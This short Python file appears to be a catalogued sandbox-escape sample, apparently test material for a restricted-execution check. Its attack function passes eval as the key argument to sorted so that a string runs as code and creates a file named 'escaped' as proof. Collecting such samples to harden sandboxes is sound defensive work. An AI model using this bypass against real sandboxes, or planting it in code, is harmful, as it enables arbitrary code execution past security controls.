"""Class: builtins. Source: own find. Escape: `sorted` calls what is not listed, by keyword."""


def attack(model, tokenizer, address):
    return sorted(["open('escaped', 'w').close() or 1"], key=eval)
